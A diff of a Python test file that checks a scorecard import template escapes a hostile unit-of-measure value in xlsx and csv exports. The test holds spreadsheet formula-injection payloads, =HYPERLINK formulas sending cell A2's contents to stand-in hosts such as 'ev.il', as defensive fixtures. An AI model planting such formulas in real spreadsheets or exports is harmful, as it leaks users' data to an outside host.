@@ -22,6 +22,8 @@ from tests.conftest import Cast
 from tests.factories_tracking import unit_scorecard
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"MW")'
+# The unit of measure is a 40-character column (PostgreSQL enforces it, SQLite does not).
+HOSTILE_UNIT = '=HYPERLINK("http://ev.il/?"&A2,"MW")'
 
 
 @given(st.text())
@@ -45,7 +47,8 @@ def _xlsx_texts(content: bytes) -> list[str]:
 @pytest.mark.parametrize("fmt", ["xlsx", "csv"])
 def test_the_import_template_writes_a_hostile_unit_of_measure_as_text(cast: Cast, fmt: str) -> None:
     scorecard = unit_scorecard(cast.engineering)
-    scorecard.items.filter(kind=ItemKind.QUANTITATIVE).update(unit_of_measure=HOSTILE)
+    assert len(HOSTILE_UNIT) <= 40
+    scorecard.items.filter(kind=ItemKind.QUANTITATIVE).update(unit_of_measure=HOSTILE_UNIT)
     content, _type, _name = import_template(
         actor=cast.manager.user, year=scorecard.year, month=1, fmt=fmt
     )
@@ -53,7 +56,7 @@ def test_the_import_template_writes_a_hostile_unit_of_measure_as_text(cast: Cast
         texts = _xlsx_texts(content)
     else:
         texts = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
-    assert "'" + HOSTILE in texts
+    assert "'" + HOSTILE_UNIT in texts
     assert not any(t.startswith("=") for t in texts)
 
 
